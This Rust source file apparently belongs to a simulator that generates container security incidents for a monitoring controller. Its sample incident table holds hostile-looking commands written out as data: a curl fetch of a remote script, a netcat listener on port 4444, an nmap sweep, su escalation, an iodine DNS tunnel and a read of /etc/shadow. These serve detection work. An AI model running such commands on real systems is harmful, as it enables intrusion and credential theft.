//! Incidents: what should not run or be touched in a container, and how it is reported.

use controller_api::{
    mode::{Baseline, Mode},
    process_profile::BuiltIn,
    security_log::Incident,
};

use crate::{
    clock::rfc3339,
    execution::unlisted,
    fleet::{Part, Pod},
    world::World,
};

/// A kind of incident: its name, what it says where it is logged and where it is blocked, how grave, the process
/// with its path and command line, the shop's service where it happens.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Kind<'a> {
    name: &'static str,
    message: &'static str,
    level: &'static str,
    pub(crate) process: (&'a str, &'a str, &'a str),
    pub(crate) service: &'static str,
}

/// What decides whether something is an incident.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Guard {
    /// The group's profile, in its mode.
    Profile,
    /// That attackers use such a process, unless the profile speaks of it.
    Risk,
    /// Something else than profiles.
    Other,
}

const IN_CONTAINER: &str = "Process.Profile.Violation";
const ON_NODE: &str = "Host.Process.Violation";
const RISKY: &str = "Container.Suspicious.Process";
const TUNNEL: &str = "Container.Tunnel.Detected";
const ESCALATION: &str = "Container.Privilege.Escalation";

impl<'a> Kind<'a> {
    /// A process in a container that its profile does not allow.
    pub(crate) fn in_container(process: (&'a str, &'a str, &'a str)) -> Self {
        let message = "Process profile violation";
        Self { name: IN_CONTAINER, message, level: "Warning", process, service: "" }
    }

    /// The same on a node.
    pub(crate) fn on_node(process: (&'a str, &'a str, &'a str)) -> Self {
        Self { name: ON_NODE, message: ON_NODE, level: "Warning", process, service: "nodes" }
    }

    /// The same process as one that a profile forbids.
    pub(crate) fn as_profile(&self, in_container: bool) -> Self {
        if in_container { Self::in_container(self.process) } else { Self::on_node(self.process) }
    }

    /// What decides whether it is one.
    pub(crate) fn guard(&self) -> Guard {
        match self.name {
            IN_CONTAINER | ON_NODE => Guard::Profile,
            RISKY => Guard::Risk,
            _ => Guard::Other,
        }
    }

    /// What it names as its rule where no rule of a profile is behind it; `""` = none.
    fn reason(&self, baseline: Option<Baseline>) -> String {
        match self.name {
            IN_CONTAINER | ON_NODE => unlisted(baseline).rule_id(),
            RISKY => BuiltIn::Risky.rule_id(),
            TUNNEL => BuiltIn::Tunnel.rule_id(),
            ESCALATION => BuiltIn::RootEscalation.rule_id(),
            _ => String::new(),
        }
    }
}

/// The kinds, as they were recorded. The last happens on nodes.
pub(crate) const KINDS: [Kind<'static>; 8] = [
    Kind {
        name: IN_CONTAINER,
        message: "Process profile violation",
        level: "Warning",
        process: ("curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x.sh"),
        service: "report-job.batch",
    },
    Kind {
        name: IN_CONTAINER,
        message: "Process profile violation",
        level: "Warning",
        process: ("bash", "/bin/bash", "bash -c id"),
        service: "payment-worker.payments",
    },
    Kind {
        name: "Container.FileAccess.Violation",
        message: "File access violation",
        level: "Warning",
        process: ("cat", "/bin/cat", ""),
        service: "fraud-scoring.payments",
    },
    Kind {
        name: ESCALATION,
        message: ESCALATION,
        level: "Critical",
        process: ("su", "/bin/su", "su -"),
        service: "spark-worker.analytics",
    },
    Kind {
        name: RISKY,
        message: "NMAP process",
        level: "Warning",
        process: ("nmap", "/usr/bin/nmap", "nmap -sS 10.42.0.0/16"),
        service: "spark-worker.analytics",
    },
    Kind {
        name: TUNNEL,
        message: TUNNEL,
        level: "Warning",
        process: ("iodine", "/usr/sbin/iodine", ""),
        service: "report-job.batch",
    },
    Kind {
        name: "Container.Package.Updated",
        message: "Package modified: libssl3",
        level: "Warning",
        process: ("", "", ""),
        service: "mailer.storefront",
    },
    Kind {
        name: ON_NODE,
        message: ON_NODE,
        level: "Warning",
        process: ("nc", "/usr/bin/nc", "nc -lvp 4444"),
        service: "nodes",
    },
];

impl World {
    /// An incident as it was in the past: in a pod's container, or on a node where there is no pod, decided by the mode that
    /// the group is in now. `at` is in unix seconds.
    pub(crate) fn incident(&mut self, kind: &Kind<'_>, pod: Option<Pod>, at: i64) {
        let group = self.group_of(pod);
        let group = self.policy.truth().group(&group);
        let mode = group.and_then(|group| group.profile_mode);
        let baseline = group.and_then(|group| group.baseline_profile);
        let blocked = kind.name == IN_CONTAINER && mode == Some(Mode::Protect);
        self.report(kind, pod, blocked, kind.reason(baseline), at);
    }

    /// The group that stands for a pod, or for the nodes.
    fn group_of(&self, pod: Option<Pod>) -> String {
        let service = pod.as_ref().map(|pod| self.fleet.service_of(pod));
        service.map_or_else(|| "nodes".to_owned(), |service| service.group().to_owned())
    }

    /// Writes an incident, with the id of the rule or of the reason behind it. `at` is in unix seconds.
    pub(crate) fn report(
        &mut self,
        kind: &Kind<'_>,
        pod: Option<Pod>,
        blocked: bool,
        rule_id: String,
        at: i64,
    ) {
        let (id, count) = (self.rng.uuid(), 1 + u32::try_from(self.rng.below(4)).unwrap_or_default());
        let place = self.rng.index(self.fleet.nodes.len());
        let group = self.group_of(pod);
        let fleet = &self.fleet;
        let Some(node) = pod.as_ref().map(|pod| fleet.node_of(pod)).or_else(|| fleet.nodes.get(place)) else {
            return;
        };
        let service = pod.as_ref().map(|pod| fleet.service_of(pod));
        let (name, path, command) = kind.process;
        let mut incident = Incident {
            id,
            name: kind.name.to_owned(),
            level: if blocked { "Critical" } else { kind.level }.to_owned(),
            reported_timestamp: at,
            reported_at: rfc3339(at),
            cluster_name: self.settings.truth().misc.cluster_name.clone(),
            host_id: node.id.clone(),
            host_name: node.name.clone(),
            enforcer_id: node.enforcer_id.clone(),
            enforcer_name: node.enforcer_name.clone(),
            proc_name: name.to_owned(),
            proc_path: path.to_owned(),
            proc_cmd: command.to_owned(),
            action: if blocked { "deny" } else { "violate" }.to_owned(),
            group,
            rule_id,
            aggregation_from: Some(at - 5),
            count: Some(count),
            message: kind.message.to_owned() + if blocked { ": execution denied" } else { "" },
            ..Incident::default()
        };
        if let (Some(pod), Some(service)) = (&pod, service) {
            incident.workload_id = pod.id(Part::Container);
            incident.workload_name = fleet.pod_name(pod);
            incident.workload_domain.clone_from(&service.domain);
            incident.workload_image.clone_from(&service.image);
            incident.workload_service = service.full_name().to_owned();
        }
        detail(&mut incident, pod.as_ref().map(Pod::ip));
        self.logs.incident(incident);
    }
}

/// What only some kinds say.
fn detail(incident: &mut Incident, ip: Option<String>) {
    match incident.name.as_str() {
        IN_CONTAINER => {
            "root".clone_into(&mut incident.proc_effective_user);
            "bash".clone_into(&mut incident.proc_parent_name);
            "/bin/bash".clone_into(&mut incident.proc_parent_path);
        }
        ESCALATION => {
            incident.proc_real_uid = Some(1000);
            "appuser".clone_into(&mut incident.proc_real_user);
            "root".clone_into(&mut incident.proc_effective_user);
        }
        "Container.FileAccess.Violation" => {
            "/etc/shadow".clone_into(&mut incident.file_path);
            incident.files = vec!["/etc/shadow".to_owned()];
        }
        TUNNEL => {
            incident.client_ip = ip.unwrap_or_default();
            "198.51.100.7".clone_into(&mut incident.server_ip);
            (incident.client_port, incident.server_port) = (Some(41_000), Some(53));
            (incident.server_conn_port, incident.ether_type, incident.ip_proto) =
                (Some(53), Some(2048), Some(17));
            for end in [
                &mut incident.remote_workload_id,
                &mut incident.remote_workload_name,
                &mut incident.remote_workload_service,
            ] {
                "external".clone_into(end);
            }
        }
        _ => {}
    }
}
